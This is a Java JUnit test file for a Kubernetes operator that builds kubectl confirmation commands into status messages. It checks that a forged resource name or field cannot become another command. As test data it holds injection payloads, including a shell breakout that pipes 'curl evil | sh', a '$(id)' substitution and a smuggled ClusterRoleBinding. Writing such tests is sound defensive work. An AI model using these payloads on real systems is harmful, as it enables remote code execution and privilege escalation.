package dev.trustedaccess.mapping;

import java.time.Instant;
import java.util.Optional;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;

import dev.trustedaccess.api.v1alpha1.ServiceConfirmation;
import dev.trustedaccess.domain.declaration.ConfirmationType;
import dev.trustedaccess.domain.declaration.Declared;
import dev.trustedaccess.domain.declaration.EnabledBy;
import dev.trustedaccess.domain.declaration.Recorded;
import dev.trustedaccess.domain.declaration.Verdict;
import dev.trustedaccess.domain.organization.Reason;
import dev.trustedaccess.domain.plan.Messages;
import io.fabric8.kubernetes.client.utils.Serialization;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** What a message shows to somebody who has kubectl alone, and what the operator makes of it. */
class KubectlConfirmationTest {
  private static final Instant ENABLED = Instant.parse("2026-02-01T00:00:00.123Z");
  private static final Instant DELETED = Instant.parse("2026-03-01T09:00:00Z");
  private static final String UID = "5b1f9e8a-6f0f-4c39-8f3e-0d9c7a5f2b11";

  private static Declared declared(String name, Optional<Instant> deleted) {
    return new Declared(name, UID, 1, ENABLED, deleted, true);
  }

  private static Recorded enabled() {
    return Recorded.NOTHING.withEnabledSeen("o-example1234", EnabledBy.OPERATOR, ENABLED, ENABLED);
  }

  private static String message(ConfirmationType type, Declared declared, Recorded recorded) {
    Verdict asking = Verdict.no(Reason.CLEANUP_PENDING, "Run: " + Messages.confirm(type, declared));
    return KubectlConfirmation.added(asking, declared, recorded).message();
  }

  private static Optional<ServiceConfirmation> confirmation(String message) {
    return Pattern.compile(KubectlConfirmation.pattern("fms.amazonaws.com"))
        .matcher(message)
        .results()
        .map(MatchResult::group)
        .map(command -> command.substring(command.indexOf('{'), command.lastIndexOf('}') + 1))
        .map(json -> Serialization.unmarshal(json, ServiceConfirmation.class))
        .findFirst();
  }

  @Test
  void theCommandConfirmsThisDeletionAndNoOther() {
    Declared deleted = declared("fms.amazonaws.com", Optional.of(DELETED));
    ServiceConfirmation applied = confirmation(message(ConfirmationType.CLEANED_UP, deleted, enabled())).orElseThrow();
    assertThat(applied.getMetadata().getName()).isEqualTo("fms.amazonaws.com");
    var read = DeclarationReader.confirmation(applied);
    assertThat(read.confirmsCleanedUp(UID, DELETED)).isTrue();
    assertThat(read.confirmsCleanedUp(UID, DELETED.plusSeconds(1))).isFalse();
    assertThat(read.confirmsCleanedUp("another", DELETED)).isFalse();
    assertThat(read.initialized()).isEmpty();
  }

  @Test
  void theCommandConfirmsThisEnablingAndNoOther() {
    Declared living = declared("fms.amazonaws.com", Optional.empty());
    var read = DeclarationReader.confirmation(
        confirmation(message(ConfirmationType.INITIALIZED, living, enabled())).orElseThrow());
    assertThat(read.confirmsInitialized(UID, Optional.of(ENABLED))).isTrue();
    assertThat(read.confirmsInitialized(UID, Optional.of(ENABLED.plusMillis(1)))).isFalse();
    assertThat(read.confirmsInitialized("another", Optional.of(ENABLED))).isFalse();
    assertThat(read.cleanedUp()).isEmpty();
  }

  @Test
  void beforeAccessWasSeenEnabledThereIsNothingToConfirm() {
    Declared living = declared("fms.amazonaws.com", Optional.empty());
    assertThat(message(ConfirmationType.INITIALIZED, living, Recorded.NOTHING))
        .isEqualTo("Run: " + Messages.confirm(ConfirmationType.INITIALIZED, living));
  }

  @Test
  void aMessageThatAsksForNothingStaysAsItIs() {
    Verdict held = Verdict.no(Reason.DELETION_HELD, "Keep access: kubectl patch tsa fms.amazonaws.com");
    assertThat(KubectlConfirmation.added(held, declared("fms.amazonaws.com", Optional.of(DELETED)), enabled()))
        .isSameAs(held);
  }

  /** Whoever may write status must not make another command of it for those who copy it. */
  @ParameterizedTest
  @ValueSource(strings = {
      "sso.amazonaws.com",
      "\"}}}' | kubectl apply -f -; curl evil | sh; echo '{",
      "x'$(id)'",
      "x\"},\"kind\":\"ClusterRoleBinding\",\"a\":{\"b\":\"",
  })
  void aForgedCommandIsNotTakenForOne(String name) {
    String forged = message(
        ConfirmationType.CLEANED_UP, declared("fms.amazonaws.com", Optional.of(DELETED)), enabled())
        .replace("\"name\":\"fms.amazonaws.com\"", "\"name\":\"" + name + "\"");
    assertThat(forged).contains(name);
    assertThat(confirmation(forged)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {UID, "2026-03-01T09:00:00Z", "cleanedUp", "deletionTimestamp"})
  void noPartOfACommandCanBeForged(String part) {
    String message = message(
        ConfirmationType.CLEANED_UP, declared("fms.amazonaws.com", Optional.of(DELETED)), enabled());
    assertThat(confirmation(message)).isPresent();
    assertThat(confirmation(message.replace("\"" + part + "\"", "\"x'; curl evil | sh; echo '\""))).isEmpty();
  }
}
